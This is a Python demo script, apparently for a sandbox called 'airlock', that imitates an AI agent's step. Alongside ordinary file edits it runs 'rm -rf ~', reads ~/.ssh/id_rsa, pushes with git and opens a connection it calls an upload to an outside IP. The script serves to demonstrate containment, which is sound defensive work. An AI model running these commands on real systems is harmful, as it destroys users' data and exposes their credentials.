# SPDX-License-Identifier: MIT
# A sample "agent step", the kind of script an AI agent writes: it edits a project, runs a
# tool, reaches for a secret and for the network. Run it under airlock and nothing it does
# reaches the machine until a person says so.
import os
import shutil
import socket
import subprocess
import sys

print("agent: editing the project in", os.getcwd())
with open("README.md", "a") as f:
    f.write("\n## Usage\n\nRun `python3 app.py`.\n")
with open("app.py", "w") as f:
    f.write('print("hello from the new app")\n')
os.makedirs("src/utils", exist_ok=True)
with open("src/utils/helpers.py", "w") as f:
    f.write("def add(a, b):\n    return a + b\n")
os.remove("old.log")
shutil.rmtree("build-cache")
os.rename("config.ini", "settings.ini")
os.chmod("run.sh", 0o755)
os.symlink("settings.ini", "config.link")

print("agent: running a tool")
out = subprocess.run(["ls", "-1"], capture_output=True, text=True)
print("agent: the project now holds", len(out.stdout.split()), "entries")
print("agent: and the new app says:", subprocess.run([sys.executable, "app.py"],
      capture_output=True, text=True).stdout.strip())

print("agent: publishing with 'git push origin main' ...", end=" ")
try:
    r = subprocess.run(["git", "push", "origin", "main"], capture_output=True, text=True)
    print("exit status", r.returncode)
except OSError as e:
    print("failed:", e.strerror)

print("agent: deleting everything with 'rm -rf ~' ...", end=" ")
try:
    subprocess.run(["rm", "-rf", os.path.expanduser("~")])
    print("it ran!")
except PermissionError as e:
    print("refused:", e.strerror)

print("agent: reading ~/.ssh/id_rsa ...", end=" ")
try:
    open(os.path.expanduser("~/.ssh/id_rsa")).read()
    print("read it!")
except OSError as e:
    print("failed:", e.strerror)

print("agent: uploading to 93.184.216.34:443 ...", end=" ")
try:
    socket.create_connection(("93.184.216.34", 443), timeout=3)
    print("connected!")
except OSError as e:
    print("failed:", e.strerror)

print("agent: done")
